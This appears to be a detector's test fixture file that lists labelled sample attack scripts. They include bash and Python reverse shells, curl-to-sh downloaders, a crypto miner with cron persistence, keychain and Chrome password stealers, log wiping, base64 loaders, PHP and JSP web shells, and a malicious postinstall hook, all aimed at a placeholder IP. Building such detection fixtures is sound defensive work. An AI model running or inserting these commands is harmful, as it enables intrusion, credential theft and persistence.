// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of the shell
// Harmless scripts of Unix and of servers that show the traits of attacks.
import { b64, type Suspect, text } from './suspect.ts'

export const unix: readonly Suspect[] = [
  text(
    'reverse.sh',
    'malicious',
    ['script_opens_reverse_shell'],
    '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n',
  ),
  text(
    'mkfifo.sh',
    'malicious',
    ['script_opens_reverse_shell'],
    '#!/bin/sh\nrm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n',
  ),
  text(
    'bot.sh',
    'suspicious',
    ['script_runs_download_from_temp'],
    '#!/bin/sh\ncd /tmp || cd /var/run\nfor a in mips arm x86; do wget http://203.0.113.7/b.$a -O /tmp/.b; chmod 777 /tmp/.b; /tmp/.b; rm /tmp/.b; done\nhistory -c\n',
  ),
  text(
    'miner.sh',
    'malicious',
    ['script_mines_coins', 'script_disables_defences'],
    '#!/bin/sh\npkill -9 kinsing; pkill xmrig\nsetenforce 0\ncurl -s http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o stratum+tcp://pool.test:3333\n(crontab -l; echo "* * * * * curl http://203.0.113.7/a | sh") | crontab -\n',
  ),
  text(
    'base64.sh',
    'suspicious',
    ['script_runs_decoded_code'],
    `#!/bin/bash\necho ${b64('curl http://203.0.113.7/a.sh | bash')} | base64 -d | bash\n`,
  ),
  text(
    'preload.sh',
    'suspicious',
    ['script_persists'],
    '#!/bin/sh\ncp /tmp/h.so /usr/local/lib/h.so\necho /usr/local/lib/h.so >> /etc/ld.so.preload\nunset HISTFILE\n',
  ),
  text(
    'keys.sh',
    'suspicious',
    ['script_persists'],
    '#!/bin/sh\necho "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys\ncurl http://203.0.113.7/a | sh\n',
  ),
  text(
    'disguised.sh',
    'suspicious',
    ['script_runs_download_from_temp'],
    '#!/bin/sh\nw""get${IFS}http://203.0.113.7/a${IFS}-O${IFS}/tmp/.a\nc""url${IFS}http://203.0.113.7/b -o /tmp/.a; chmod +x /tmp/.a; /tmp/.a\n',
  ),
  text(
    'stealer.sh',
    'suspicious',
    ['script_steals_secrets'],
    '#!/bin/bash\nosascript -e \'display dialog "macOS needs your password" default answer "" with hidden answer\'\nsecurity dump-keychain -d login.keychain\ncurl -F f=@/tmp/k http://203.0.113.7/u\n',
  ),
  text(
    'wipe.sh',
    'suspicious',
    ['script_wipes_logs'],
    '#!/bin/sh\nrm -rf /var/log/wtmp /var/log/secure\nunset HISTFILE; history -c\necho Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IHNo | base64 -d | sh\n',
  ),
  text(
    'exec.py',
    'suspicious',
    ['script_runs_decoded_code'],
    `import base64\nexec(base64.b64decode("${b64("import os\nos.system('curl http://203.0.113.7/a | sh')\n")}"))\n`,
  ),
  text(
    'reverse.py',
    'malicious',
    ['script_opens_reverse_shell'],
    'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.7",4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
  ),
  text(
    'listen.py',
    'malicious',
    ['script_opens_reverse_shell'],
    'import socket, os\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 4444)); srv.listen(1)\nc, a = srv.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\nos.execvp(os.environ["SHELL"], ["-i"])\n',
  ),
  text(
    'tied.py',
    'malicious',
    ['script_opens_reverse_shell'],
    'import os, socket\nclass Way:\n    def go(self, host, port):\n        self.way = socket.socket()\n        self.way.connect((host, port))\n        for n in range(3):\n            os.dup2(self.way.fileno(), n)\n        subprocess.run([self.program, "-i"])\nWay().go("203.0.113.7", 4444)\n',
  ),
  text(
    'shellcode.py',
    'malicious',
    ['script_injects_code'],
    'import ctypes\nbuf = b"\\x90\\x90"\np = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, buf, len(buf))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)\n',
  ),
  text(
    'remote.py',
    'suspicious',
    ['script_runs_downloaded_text'],
    'import requests\nexec(requests.get("http://203.0.113.7/a.py").text)\n',
  ),
  text(
    'grabber.py',
    'suspicious',
    ['script_steals_secrets', 'script_reports_to_chat_service'],
    'import os, sqlite3, requests, win32crypt\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\ndb = sqlite3.connect(p)\nfor r in db.execute("select * from logins"): win32crypt.CryptUnprotectData(r[2])\nrequests.post("https://discord.com/api/webhooks/1/a", json={})\n',
  ),
  text('shell.php', 'malicious', ['script_is_web_shell'], '<?php @eval($_POST["x"]); ?>'),
  text('cmd.php', 'malicious', ['script_is_web_shell'], '<?php if(isset($_GET["c"])){ system($_GET["c"]); } ?>'),
  text(
    'packed.php',
    'suspicious',
    ['script_runs_decoded_code'],
    `<?php eval(base64_decode("${b64('file_put_contents("/tmp/x", file_get_contents("http://203.0.113.7/a"));')}")); ?>`,
  ),
  text(
    'shell.jsp',
    'malicious',
    ['script_is_web_shell'],
    '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
  ),
  text(
    'postinstall.js',
    'suspicious',
    ['script_runs_downloaded_text'],
    "const https = require('https')\nhttps.get('http://203.0.113.7/a.js', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) })\nrequire('child_process').exec('curl http://203.0.113.7/b | sh')\n",
  ),
]
